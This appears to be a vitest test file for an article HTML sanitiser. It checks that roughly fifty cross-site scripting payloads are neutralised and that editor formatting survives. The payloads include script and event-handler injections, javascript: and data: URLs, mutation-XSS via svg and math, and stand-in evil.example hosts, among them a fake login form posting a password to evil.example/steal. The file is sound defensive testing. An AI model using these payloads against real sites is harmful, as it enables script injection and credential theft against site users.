import { createHash } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import { htmlToText, MAX_PARSE_DEPTH, sanitisedHtmlToText } from './html.server';
import { ARTICLE_HTML_OPTIONS, sanitizeArticleHtml, SANITISER_VERSION, storedBody } from './sanitize.server';

const ALLOWED_TAGS = new Set([
  'h2',
  'h3',
  'p',
  'strong',
  'b',
  'em',
  'i',
  'u',
  's',
  'blockquote',
  'ul',
  'ol',
  'li',
  'a',
  'br',
  'span',
]);
const ALLOWED_ATTRIBUTES: Record<string, string[]> = {
  a: ['href', 'target', 'rel'],
  span: ['style'],
  p: ['style'],
  h2: ['style'],
  h3: ['style'],
};

/** Every way the output could still run script or load something: an empty list means safe. */
function dangers(html: string): string[] {
  const found: string[] = [];
  for (const [, name, attrs] of html.matchAll(/<([a-zA-Z][\w:-]*)((?:[^\w:>-][^>]*)?)>/g)) {
    const tag = name!.toLowerCase();
    if (!ALLOWED_TAGS.has(tag)) found.push(`tag <${tag}>`);
    for (const [, attr, value] of attrs!.matchAll(/\s([^\s=/>]+)(?:="([^"]*)")?/g)) {
      if (!(ALLOWED_ATTRIBUTES[tag] ?? []).includes(attr!.toLowerCase())) found.push(`attribute ${attr} on <${tag}>`);
      if (attr === 'href' && !/^(https?:\/\/|mailto:|\/(?!\/)|#|[\w-]+(\/|$))/i.test(value ?? '')) found.push(`href ${value}`);
      if (attr === 'target' && (value !== '_blank' || !/\bnoopener\b/.test(attrs!) || !/\bnoreferrer\b/.test(attrs!)))
        found.push(`target without rel="noopener noreferrer"`);
      if (attr === 'rel' && /(^|\s)opener(\s|$)/.test(value ?? '')) found.push('rel opener');
      if (attr === 'style' && /url\(|expression|javascript|@import|behavior|\\/i.test(value ?? '')) found.push(`style ${value}`);
    }
  }
  // Nothing that looks like markup may survive as markup; escaped text is harmless.
  if (/<(script|iframe|object|embed|svg|math|style|form|meta|base|link|img|input|frame|template)/i.test(html))
    found.push('dangerous markup');
  if (/(javascript|vbscript|data):/i.test(html.replace(/&[a-z]+;|&#\d+;/gi, '').replace(/>[^<>]*</g, '><')))
    found.push('script URL in markup');
  return found;
}

// At least 30 script-injection payloads (spec: stored HTML is never trusted).
const PAYLOADS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<IMG SRC="javascript:alert(1)">',
  '<body onload=alert(1)>',
  '<p onclick="alert(1)" onmouseover="alert(2)">hover</p>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="&#x6A;avascript&colon;alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="DATA:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="VbScRiPt:msgbox(1)">x</a>',
  '<a href="//evil.example/">protocol-relative</a>',
  '<svg><script>alert(1)</script></svg>',
  '<svg onload=alert(1)><circle r="1"/></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<style>body{background:url("javascript:alert(1)")}</style>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<p style="background-image: url(&quot;https://evil.example/track.png&quot;)">x</p>',
  '<p style="color: expression(alert(1))">x</p>',
  '<span style="width: expression(alert(1)); color: red">x</span>',
  '<p style="-moz-binding: url(https://evil.example/xbl.xml#x)">x</p>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<math href="javascript:alert(1)">x</math>',
  '<form action="https://evil.example/steal"><input name="password"><button>Sign in</button></form>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><script>alert(1)</script></template>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror="alert(1)"></video>',
  '<a href="https://example.org" onmouseover="alert(1)" style="position:fixed;top:0;left:0;width:100%;height:100%">x</a>',
  '<font color="red" onmouseover="alert(1)" face="x">x</font>',
  '<font size="3" color="expression(alert(1))">x</font>',
  '<!--<img src=x onerror=alert(1)>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<p>ok</p><img/src="x"/onerror=alert(1)>',
  '"><script>alert(1)</script>',
  '<a href="https://example.org" target="_self" rel="opener">x</a>',
];

describe('sanitizeArticleHtml: script-injection payloads', () => {
  it('has at least 30 payloads, and the check below would catch each one left unsanitised', () => {
    expect(PAYLOADS.length).toBeGreaterThanOrEqual(30);
    expect(PAYLOADS.filter((payload) => dangers(payload).length === 0)).toEqual([]);
  });

  it.each(PAYLOADS)('neutralises %s', (payload) => {
    const clean = sanitizeArticleHtml(payload);
    expect(dangers(clean), clean).toEqual([]);
    // Sanitising is stable: running it again changes nothing.
    expect(sanitizeArticleHtml(clean)).toBe(clean);
  });

  it('drops the contents of script, style, svg, math, iframe and template, not only the tags', () => {
    const clean = sanitizeArticleHtml(
      '<p>Before</p><script>alert("s")</script><style>p{}</style><svg><title>svg</title></svg><math>m</math><iframe>frame</iframe><template>tpl</template><p>After</p>',
    );
    expect(clean).toBe('<p>Before</p><p>After</p>');
  });

  it('keeps a harmless link but removes its script URL', () => {
    expect(sanitizeArticleHtml('<a href="javascript:alert(1)">Read more</a>')).toBe('<a>Read more</a>');
    expect(sanitizeArticleHtml('<a href="//evil.example/">x</a>')).toBe('<a>x</a>');
  });

  it('forces rel="noopener noreferrer" on links that open a new tab, and drops other targets', () => {
    expect(sanitizeArticleHtml('<a href="https://example.org" target="_blank">x</a>')).toBe(
      '<a href="https://example.org" target="_blank" rel="noopener noreferrer">x</a>',
    );
    expect(sanitizeArticleHtml('<a href="https://example.org" target="_BLANK" rel="opener">x</a>')).toBe(
      '<a href="https://example.org" target="_blank" rel="noopener noreferrer">x</a>',
    );
    expect(sanitizeArticleHtml('<a href="https://example.org" target="_parent">x</a>')).toBe(
      '<a href="https://example.org">x</a>',
    );
  });
});

describe('sanitizeArticleHtml: the editor formatting survives', () => {
  it('keeps headings, paragraphs, emphasis, lists, quotes and line breaks', () => {
    const html =
      '<h2>Heading two</h2><h3>Heading three</h3><p><strong>strong</strong> <b>bold</b> <em>em</em> <i>italic</i> <u>under</u> <s>struck</s><br />next line</p>' +
      '<ul><li>one</li></ul><ol><li>first</li></ol><blockquote>quoted</blockquote>';
    expect(sanitizeArticleHtml(html)).toBe(html);
  });

  it('reads a heading 1 in a body as a heading 2: the page title is the one h1', () => {
    expect(sanitizeArticleHtml('<h1 style="text-align:center">Title</h1>')).toBe('<h2 style="text-align:center">Title</h2>');
  });

  it('keeps http, https, mailto and relative links', () => {
    for (const href of [
      'https://example.org/a?b=1&amp;c=2',
      'http://example.org',
      'mailto:info@example.org',
      '/services',
      '#top',
    ]) {
      expect(sanitizeArticleHtml(`<a href="${href}">x</a>`)).toBe(`<a href="${href}">x</a>`);
    }
  });

  it('keeps alignment, colour and font size on spans, paragraphs and headings', () => {
    expect(sanitizeArticleHtml('<p style="text-align: right">x</p>')).toBe('<p style="text-align:right">x</p>');
    expect(sanitizeArticleHtml('<h3 style="color: #1e3a8a">x</h3>')).toBe('<h3 style="color:#1e3a8a">x</h3>');
    expect(sanitizeArticleHtml('<span style="color: rgb(30, 58, 138); font-size: 18px">x</span>')).toBe(
      '<span style="color:rgb(30, 58, 138);font-size:18px">x</span>',
    );
    expect(sanitizeArticleHtml('<span style="font-size: 1.5em; color: darkblue">x</span>')).toBe(
      '<span style="font-size:1.5em;color:darkblue">x</span>',
    );
  });

  it('drops any other style, and styles on other elements', () => {
    expect(sanitizeArticleHtml('<p style="position: fixed; font-size: 999px; margin: 0">x</p>')).toBe('<p>x</p>');
    expect(sanitizeArticleHtml('<li style="color: red">x</li>')).toBe('<li>x</li>');
  });

  it('turns <font size color> from the editor into a styled span', () => {
    expect(sanitizeArticleHtml('<font size="5" color="#ff0000">big red</font>')).toBe(
      '<span style="font-size:x-large;color:#ff0000">big red</span>',
    );
    expect(sanitizeArticleHtml('<font size="1">small</font>')).toBe('<span style="font-size:x-small">small</span>');
    expect(sanitizeArticleHtml('<font size="12" face="Comic Sans">x</font>')).toBe('<span>x</span>');
  });

  it('keeps the text of unknown tags and escapes stray markup characters', () => {
    expect(sanitizeArticleHtml('<div>Plain <article>text</article></div>')).toBe('Plain text');
    expect(sanitizeArticleHtml('<p>5 < 6 & 7 > 3</p>')).toBe('<p>5 &lt; 6 &amp; 7 &gt; 3</p>');
  });
});

describe('sanitizeArticleHtml: markup nested deeper than its parser is given', () => {
  const deep = (depth: number, inner: string) => `${'<blockquote>'.repeat(depth)}${inner}${'</blockquote>'.repeat(depth)}`;

  it('sanitises nesting up to the limit as usual', () => {
    const html = deep(MAX_PARSE_DEPTH - 1, '<strong>deep</strong>');
    expect(sanitizeArticleHtml(html)).toBe(html);
  });

  it('keeps only the text, escaped, of markup nested deeper, quickly and safely', () => {
    const start = performance.now();
    const clean = sanitizeArticleHtml(deep(300_000, 'Deep text & more <script>alert(1)</script> 5 &lt; 6 >'));
    expect(performance.now() - start).toBeLessThan(5_000);
    expect(clean.replace(/\s+/g, ' ')).toBe('<p> Deep text &amp; more alert(1) 5 &lt; 6 &gt; </p>');
    expect(dangers(clean)).toEqual([]);
    expect(htmlToText(deep(300_000, 'Deep &amp; text'))).toBe('Deep & text');
  });
});

describe('what writers store for a body', () => {
  it('is the sanitised HTML and the text derived from it', () => {
    const raw = '<h1>Title</h1><p onclick="x()">Hello&nbsp;there</p><script>secret words</script>';
    expect(storedBody(raw)).toEqual({ content: '<h2>Title</h2><p>Hello\u00a0there</p>', search_text: 'Title Hello there' });
  });
});

describe('the allow-list version', () => {
  // A fingerprint of the allow-list and of what it does to a corpus covering every rule. When it
  // changes, stored bodies were cleaned by another list: raise SANITISER_VERSION, add a migration
  // with its own copy of the new list (see sanitize.server.ts), then record the new fingerprint.
  const FINGERPRINTS: Record<number, string> = {
    1: 'f2979fd5cc15c92f',
  };

  it('matches the version the stored bodies were cleaned with', () => {
    const options = JSON.stringify(ARTICLE_HTML_OPTIONS, (_key, value: unknown) =>
      value instanceof RegExp ? value.toString() : typeof value === 'function' ? `function ${value.name}` : value,
    );
    const corpus = [
      ...PAYLOADS,
      '<h1 style="text-align:center">T</h1><h2>a</h2><h3>b</h3><p><strong>s</strong><b>b</b><em>e</em><i>i</i><u>u</u><s>s</s><br>x</p>',
      '<ul><li>1</li></ul><ol><li>2</li></ol><blockquote>q</blockquote><div>d</div><table><tr><td>t</td></tr></table>',
      '<a href="https://example.org" target="_blank" rel="nofollow ugc opener">l</a><a href="/services">r</a><a href="mailto:a@b.c">m</a>',
      '<span style="color: rgb(1, 2, 3); font-size: 1.5em; text-align: left; margin: 0">c</span><p style="font-size: 120%">p</p>',
      '<font size="7" color="#abc">f</font><font color="rgba(1,2,3,0.5)">g</font><img src="/x.png" alt="i"><hr>',
    ];
    const outputs = corpus.map((html) => sanitizeArticleHtml(html)).join('\u0000');
    const fingerprint = createHash('sha256').update(`${options}\u0000${outputs}`).digest('hex').slice(0, 16);
    expect(fingerprint).toBe(FINGERPRINTS[SANITISER_VERSION]);
  });
});

describe('the text of a sanitised body', () => {
  it('is what htmlToText reads from it, found without a second parse', () => {
    const bodies = [
      ...PAYLOADS,
      '<h1>Title</h1><p>One&nbsp;two &amp; three &lt;four&gt; "five" \'six\'</p><ul><li>a</li><li>b<br>c</li></ul>',
      '<p>Line<br/>break<br />again</p><blockquote>Quote</blockquote><div>div</div><table><tr><td>x</td><th>y</th></tr></table>',
      '<p>&amp;lt;literal&amp;gt; &amp;nbsp; &#169; &copy; &#x263a;</p><p><strong>b</strong><em>i</em>joined</p>',
      '<a href="https://example.org/?a=1&b=<2>" title="a > b">link</a> <span style="color:red">red</span>',
      '<font size="3" color="blue">font</font> 5 < 6 > 4 & done',
      `${'<blockquote>'.repeat(300)}deep${'</blockquote>'.repeat(300)}`,
    ];
    for (const body of bodies) {
      const clean = sanitizeArticleHtml(body);
      expect(sanitisedHtmlToText(clean), clean).toBe(htmlToText(clean));
    }
  });

  it('reads a megabyte of escaped text in linear time', () => {
    const clean = sanitizeArticleHtml('<'.repeat(1_000_000));
    const start = performance.now();
    expect(sanitisedHtmlToText(clean)).toBe('<'.repeat(1_000_000));
    expect(performance.now() - start).toBeLessThan(5_000);
  });
});
